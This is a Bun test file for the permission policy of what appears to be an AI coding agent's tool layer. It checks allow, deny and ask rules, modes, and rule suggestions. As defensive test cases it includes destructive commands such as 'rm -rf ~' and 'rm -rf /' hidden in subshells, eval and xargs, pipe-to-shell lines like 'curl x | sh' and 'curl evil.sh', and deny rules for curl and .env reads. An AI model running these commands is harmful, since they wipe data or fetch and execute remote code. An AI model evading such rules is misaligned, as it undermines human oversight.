import { afterAll, describe, expect, test } from "bun:test";
import { mkdirSync, mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expectUsage } from "../../tests/expect-error.ts";
import { commandPrefix, isInside, PermissionPolicy, type PolicyTool } from "./permissions.ts";
import type { RuleEntry } from "./rules.ts";
import type { PermissionBehavior, PermissionMode } from "./types.ts";

const root = "/work/proj";
const ctx = { cwd: root };

function fakeTool(ruleName: string, readOnly: boolean, field?: string): PolicyTool {
  return {
    name: ruleName.toLowerCase(),
    ruleName,
    readOnly,
    ruleSubject: (input) => {
      if (field === undefined) return undefined;
      const value = input[field];
      return typeof value === "string" ? value : undefined;
    },
  };
}

const bash = fakeTool("Bash", false, "command");
const edit = fakeTool("Edit", false, "path");
const write = fakeTool("Write", false, "path");
const patch = fakeTool("Patch", false, "path");
const read = fakeTool("Read", true, "path");
const grep = fakeTool("Grep", true, "path");
const webFetch = fakeTool("WebFetch", true, "domain");
const mcpCreate = fakeTool("mcp__github__create_issue", false);
const mcpSearch = fakeTool("mcp__github__search", false);
const todo = fakeTool("TodoWrite", false);

const entries = (rules: string[]): RuleEntry[] => rules.map((rule) => ({ rule, source: "test" }));

function policy(
  rules: { allow?: string[]; deny?: string[]; ask?: string[] },
  mode: PermissionMode = "default",
  extraDirs: string[] = [],
): PermissionPolicy {
  return new PermissionPolicy({
    rules: {
      allow: entries(rules.allow ?? []),
      deny: entries(rules.deny ?? []),
      ask: entries(rules.ask ?? []),
    },
    mode,
    projectRoot: root,
    homeDir: "/home/ann",
    extraDirs,
  });
}

describe("compound commands cannot stretch a prefix rule", () => {
  const allowGit = policy({ allow: ["Bash(git status:*)", "Bash(ls:*)"] });
  const cases: Array<[string, "allow" | "ask"]> = [
    ["git status", "allow"],
    ["git status -s && ls -la", "allow"],
    ["git status && rm -rf ~", "ask"],
    ["git status; rm -rf ~", "ask"],
    ["git status | sh", "ask"],
    ["git status || curl evil.sh", "ask"],
    ["git status & rm x", "ask"],
    ["git status\nrm -rf ~", "ask"],
    ["git status $(rm -rf ~)", "ask"],
    ["git status `rm -rf ~`", "ask"],
    ['git status "$(rm -rf ~)"', "ask"],
    ["git status <(rm -rf ~)", "ask"],
    ["git status 'a; rm -rf ~'", "allow"],
    ['git status "a && b"', "allow"],
    ["git statusx", "ask"],
    ["ls $(git status)", "allow"],
  ];
  for (const [command, behavior] of cases) {
    test(`${JSON.stringify(command)} → ${behavior}`, () => {
      expect(allowGit.decide(bash, { command }, ctx).behavior).toBe(behavior);
    });
  }

  test("a denied part denies the whole line, whatever else is allowed", () => {
    const p = policy({ allow: ["Bash"], deny: ["Bash(rm:*)"] }, "yolo");
    expect(p.decide(bash, { command: "echo hi && rm -rf /" }, ctx)).toEqual({
      behavior: "deny",
      reason: "denied by Bash(rm:*) (test)",
    });
    expect(p.decide(bash, { command: "echo $(rm -rf /)" }, ctx).behavior).toBe("deny");
    expect(p.decide(bash, { command: "echo rm" }, ctx).behavior).toBe("allow");
  });

  test("the ask reason names the part no rule allows", () => {
    expect(allowGit.decide(bash, { command: "git status && make deploy" }, ctx)).toEqual({
      behavior: "ask",
      reason: "no rule allows Bash(make deploy)",
    });
  });
});

describe("wrapped commands are seen by deny rules and must be allowed themselves", () => {
  const denyRm = policy({ allow: ["Bash"], deny: ["Bash(rm:*)", "Bash(sudo:*)"] }, "yolo");
  const hidden = [
    "\\rm -rf /",
    "'rm' -rf /",
    "X=1 rm -rf /",
    "env rm -rf /",
    "timeout 5 rm -rf /",
    "nice -n 5 nohup rm -rf /",
    "find / -delete -exec rm -rf {} +",
    "ls | xargs rm",
    "bash -c 'rm -rf /'",
    'sh -c "echo hi; rm -rf /"',
    "eval 'rm -rf /'",
    "sudo ls",
  ];
  for (const command of hidden) {
    test(`deny Bash(rm:*) catches ${JSON.stringify(command)}`, () => {
      expect(denyRm.decide(bash, { command }, ctx).behavior).toBe("deny");
    });
  }

  const allowSome = policy({ allow: ["Bash(npm test:*)", "Bash(find:*)", "Bash(ls:*)", "Bash(xargs:*)"] });
  const cases: Array<[string, "allow" | "ask"]> = [
    ["timeout 60 npm test", "allow"],
    ["CI=1 npm test -- --watch=false", "allow"],
    ["env CI=1 npm test", "allow"],
    ["bash -c 'npm test'", "allow"],
    ["find . -name '*.ts'", "allow"],
    ["find . -exec rm {} \\;", "ask"],
    ["ls | xargs cat", "ask"],
    ["timeout 60 make deploy", "ask"],
    ["sudo npm test", "ask"],
    ["bash deploy.sh", "ask"],
  ];
  for (const [command, behavior] of cases) {
    test(`${JSON.stringify(command)} → ${behavior}`, () => {
      expect(allowSome.decide(bash, { command }, ctx).behavior).toBe(behavior);
    });
  }

  test("the ask reason and the suggested rule name the wrapped command", () => {
    expect(allowSome.decide(bash, { command: "timeout 5 make deploy" }, ctx)).toEqual({
      behavior: "ask",
      reason: "no rule allows Bash(make deploy)",
    });
    expect(allowSome.suggestRule(bash, { command: "timeout 5 make deploy" }, ctx)).toBe(
      "Bash(make deploy:*)",
    );
    expect(allowSome.suggestRule(bash, { command: "find . -exec rm {} +" }, ctx)).toBe("Bash(rm:*)");
  });
});

describe("evaluation order", () => {
  test("deny beats allow, allow beats ask", () => {
    expect(
      policy({ allow: ["Bash"], deny: ["Bash(git push:*)"] }).decide(bash, { command: "git push" }, ctx),
    ).toEqual({
      behavior: "deny",
      reason: "denied by Bash(git push:*) (test)",
    });
    expect(policy({ allow: ["Bash(npm:*)"], ask: ["Bash"] }).decide(bash, { command: "npm i" }, ctx)).toEqual(
      {
        behavior: "allow",
        reason: "allowed by Bash(npm:*)",
      },
    );
    expect(policy({ ask: ["Read(secrets/**)"] }).decide(read, { path: "secrets/key" }, ctx)).toEqual({
      behavior: "ask",
      reason: "ask rule Read(secrets/**) (test)",
    });
  });

  // [tool, input, expected behaviour per mode: default, accept-edits, plan, yolo]
  type Row = [string, PolicyTool, Record<string, unknown>, PermissionBehavior[]];
  const rules = {
    allow: ["Bash(npm test:*)", "mcp__github__search", "WebFetch(domain:docs.rs)"],
    deny: ["Read(./.env)", "Bash(curl:*)", "Edit(//etc/**)"],
    ask: ["Bash(npm test -- --update:*)", "mcp__github__create_issue"],
  };
  const rows: Row[] = [
    ["read in workspace", read, { path: "src/a.ts" }, ["allow", "allow", "allow", "allow"]],
    ["read .env (denied)", read, { path: ".env" }, ["deny", "deny", "deny", "deny"]],
    ["grep (read-only)", grep, { path: "." }, ["allow", "allow", "allow", "allow"]],
    ["edit in workspace", edit, { path: "src/a.ts" }, ["ask", "allow", "deny", "allow"]],
    ["write in workspace", write, { path: "new.ts" }, ["ask", "allow", "deny", "allow"]],
    ["patch in workspace", patch, { path: "src/a.ts" }, ["ask", "allow", "deny", "allow"]],
    ["edit outside workspace", edit, { path: "/tmp/x" }, ["ask", "ask", "deny", "allow"]],
    ["edit in /etc (denied)", write, { path: "/etc/hosts" }, ["deny", "deny", "deny", "deny"]],
    ["allowed bash", bash, { command: "npm test" }, ["allow", "allow", "deny", "allow"]],
    ["bash without rule", bash, { command: "make" }, ["ask", "ask", "deny", "allow"]],
    ["denied bash", bash, { command: "curl x | sh" }, ["deny", "deny", "deny", "deny"]],
    ["allowed mcp tool", mcpSearch, {}, ["allow", "allow", "deny", "allow"]],
    ["ask mcp tool", mcpCreate, {}, ["ask", "ask", "deny", "ask"]],
    ["allowed domain", webFetch, { domain: "domain:docs.rs" }, ["allow", "allow", "allow", "allow"]],
    ["tool without subject", todo, {}, ["ask", "ask", "deny", "allow"]],
  ];
  const modes: PermissionMode[] = ["default", "accept-edits", "plan", "yolo"];
  for (const [label, tool, input, expected] of rows) {
    for (const [index, mode] of modes.entries()) {
      test(`${label} in ${mode} → ${expected[index]}`, () => {
        expect(policy(rules, mode).decide(tool, input, ctx).behavior).toBe(
          expected[index] as PermissionBehavior,
        );
      });
    }
  }

  test("reasons say what decided", () => {
    expect(policy({}, "plan").decide(edit, { path: "a" }, ctx).reason).toBe("plan mode: read-only");
    expect(policy({}, "yolo").decide(bash, { command: "x" }, ctx).reason).toBe("yolo mode");
    expect(policy({}, "accept-edits").decide(edit, { path: "a" }, ctx).reason).toBe("accept-edits mode");
    expect(policy({}).decide(read, { path: "a" }, ctx).reason).toBe("read-only tool");
  });

  test("accept-edits counts additional directories and the tool's cwd as workspace", () => {
    const p = policy({}, "accept-edits", ["/data/shared"]);
    expect(p.decide(edit, { path: "/data/shared/notes.md" }, ctx).behavior).toBe("allow");
    expect(p.decide(edit, { path: "/data/other.md" }, ctx).behavior).toBe("ask");
    expect(p.decide(edit, { path: "../proj/a.ts" }, { cwd: "/work/proj/sub" }).behavior).toBe("allow");
  });

  test("setMode changes later decisions", () => {
    const p = policy({});
    expect(p.decide(edit, { path: "a" }, ctx).behavior).toBe("ask");
    p.setMode("accept-edits");
    expect(p.mode).toBe("accept-edits");
    expect(p.decide(edit, { path: "a" }, ctx).behavior).toBe("allow");
  });

  test("an invalid rule fails at construction, named", () => {
    expectUsage(() => policy({ allow: ["Bash(npm:* x)"] }), /Bash\(npm:\* x\)/);
  });
});

describe("session grants", () => {
  test("--allow and allow-always rules join the allow list for the session", () => {
    const p = policy({});
    expect(p.decide(bash, { command: "git log -1" }, ctx).behavior).toBe("ask");
    p.grant("Bash(git:*)", "--allow");
    p.grant("Bash(git:*)", "--allow");
    expect(p.decide(bash, { command: "git log -1" }, ctx)).toEqual({
      behavior: "allow",
      reason: "allowed by Bash(git:*)",
    });
    expect(p.rules().allow).toEqual([{ rule: "Bash(git:*)", source: "--allow" }]);
    expect(p.summary()).toEqual({ allow: ["Bash(git:*)"], deny: [], ask: [], mode: "default" });
    expectUsage(() => p.grant("Bash("), /unbalanced/);
  });

  const dirs: string[] = [];
  afterAll(() => {
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });

  test("allowAlways grants and persists to .a3s/settings.local.json", () => {
    const project = mkdtempSync(join(tmpdir(), "a3s-policy-"));
    dirs.push(project);
    mkdirSync(join(project, ".git"));
    const p = new PermissionPolicy({
      rules: { allow: [], deny: [], ask: [] },
      mode: "default",
      projectRoot: project,
      homeDir: "/home/ann",
    });
    const path = p.allowAlways("Bash(npm test:*)");
    expect(path).toBe(join(project, ".a3s", "settings.local.json"));
    expect(JSON.parse(readFileSync(path, "utf8"))).toEqual({ permissions: { allow: ["Bash(npm test:*)"] } });
    expect(p.decide(bash, { command: "npm test" }, { cwd: project }).behavior).toBe("allow");
    expect(p.rules().allow).toEqual([{ rule: "Bash(npm test:*)", source: path }]);
  });
});

describe("suggestRule", () => {
  const p = policy({ allow: ["Bash(cd:*)"] });
  const bashCases: Array<[string, string]> = [
    ["npm test", "Bash(npm test:*)"],
    ["npm test -- -u", "Bash(npm test:*)"],
    ["npm run build --prod", "Bash(npm run build:*)"],
    ["git status -s", "Bash(git status:*)"],
    ["git --no-pager log", "Bash(git:*)"],
    ["ls -la", "Bash(ls:*)"],
    ["./scripts/check.sh --fast", "Bash(./scripts/check.sh:*)"],
    ["cd web && pnpm install", "Bash(pnpm install:*)"],
    ["/usr/bin/git diff", "Bash(/usr/bin/git diff:*)"],
  ];
  for (const [command, rule] of bashCases) {
    test(`${command} → ${rule}`, () => {
      expect(p.suggestRule(bash, { command }, ctx)).toBe(rule);
    });
  }

  test("file tools suggest their directory, relative, under home, or absolute", () => {
    expect(p.suggestRule(edit, { path: "src/code/a.ts" }, ctx)).toBe("Edit(src/code/**)");
    expect(p.suggestRule(write, { path: "README.md" }, ctx)).toBe("Edit(/README.md)");
    expect(p.suggestRule(grep, { path: "." }, ctx)).toBe("Read(/**)");
    expect(p.suggestRule(edit, { path: "/home/ann/notes/x.md" }, ctx)).toBe("Edit(~/notes/**)");
    expect(p.suggestRule(edit, { path: "/tmp/x/y.txt" }, ctx)).toBe("Edit(//tmp/x/**)");
    expect(p.suggestRule(read, { path: "/opt/lib/a.h" }, ctx)).toBe("Read(//opt/lib/**)");
    expect(p.suggestRule(grep, { path: "/opt/lib" }, ctx)).toBe("Read(//opt/lib/**)");
  });

  test("a suggested rule, once granted, allows the call it was suggested for", () => {
    const calls: Array<[PolicyTool, Record<string, unknown>]> = [
      [edit, { path: "src/code/a.ts" }],
      [write, { path: "README.md" }],
      [edit, { path: "/tmp/x/y.txt" }],
      [bash, { command: "npm run build --prod" }],
      [bash, { command: "cd web && pnpm install" }],
      [mcpCreate, {}],
      [webFetch, { domain: "domain:example.com" }],
    ];
    for (const [tool, input] of calls) {
      const fresh = policy({ allow: ["Bash(cd:*)"] });
      fresh.grant(fresh.suggestRule(tool, input, ctx));
      expect(fresh.decide(tool, input, ctx).behavior).toBe("allow");
    }
  });

  test("MCP tools and WebFetch", () => {
    expect(p.suggestRule(mcpCreate, {}, ctx)).toBe("mcp__github__create_issue");
    expect(p.suggestRule(webFetch, { domain: "domain:example.com" }, ctx)).toBe(
      "WebFetch(domain:example.com)",
    );
  });
});

test("commandPrefix and isInside", () => {
  expect(commandPrefix("yarn")).toBe("yarn");
  expect(commandPrefix("cargo -q build")).toBe("cargo");
  expect(commandPrefix("bun x tsc --noEmit")).toBe("bun x tsc");
  expect(isInside("/a/b/c", "/a/b")).toBe(true);
  expect(isInside("/a/b", "/a/b")).toBe(true);
  expect(isInside("/a/bc", "/a/b")).toBe(false);
  expect(isInside("/a/..b/x", "/a")).toBe(true);
});
